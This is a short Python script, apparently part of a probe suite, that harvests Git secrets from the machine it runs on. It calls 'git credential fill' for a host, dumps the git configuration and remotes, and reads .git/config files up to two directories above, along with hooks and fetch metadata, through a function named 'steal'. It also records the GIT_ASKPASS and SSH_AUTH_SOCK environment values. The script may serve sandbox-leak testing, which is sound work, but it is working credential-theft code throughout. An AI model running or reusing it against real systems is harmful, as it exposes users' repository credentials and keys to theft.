"""Git's helpers, configuration and what a checkout remembers."""

import os, subprocess
from probe import FACTS, OUTSIDE, attempt, got, steal

asks = [["git", "config", "--list", "--show-origin"], ["git", "credential", "fill"], ["git", "remote", "-v"]]
for ask in asks:
    attempt()
    environment = dict(os.environ, GIT_TERMINAL_PROMPT="0")
    if OUTSIDE:
        environment |= {"HOME": FACTS["home"], "GIT_CONFIG_NOSYSTEM": "1"}
    try:
        done = subprocess.run(
            ask,
            input=b"protocol=https\nhost=git.example\n\n",
            capture_output=True,
            timeout=10,
            env=environment,
            check=False,
            cwd=FACTS["home"] if OUTSIDE else None,
        )
        got(" ".join(ask), done.stdout + done.stderr)
    except (OSError, subprocess.TimeoutExpired):
        pass
for name in (
    ".git/config",
    "../.git/config",
    "../../.git/config",
    ".git/hooks",
    ".git/FETCH_HEAD",
    ".git/objects/info/alternates",
):
    steal(name)
for name in ("GIT_ASKPASS", "GIT_CONFIG_COUNT", "GIT_CONFIG_VALUE_0", "SSH_AUTH_SOCK"):
    got(name, os.environ.get(name, ""))
    attempt()
